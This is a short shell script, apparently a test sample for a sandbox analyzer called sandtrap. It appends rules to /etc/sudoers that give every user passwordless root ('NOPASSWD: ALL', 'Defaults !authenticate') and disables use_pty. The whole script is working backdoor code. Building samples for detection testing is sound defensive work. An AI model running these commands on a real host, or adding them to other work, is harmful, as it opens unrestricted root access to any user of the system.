#!/bin/sh
# Privilege escalation through sudoers: appends NOPASSWD and !authenticate rules to /etc/sudoers itself.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
[ -f /etc/sudoers ] || printf 'root ALL=(ALL:ALL) ALL\n' > /etc/sudoers
echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers
echo 'Defaults !authenticate' >> /etc/sudoers
sed -i 's/^Defaults\s*use_pty/# &/' /etc/sudoers
tail -n 2 /etc/sudoers
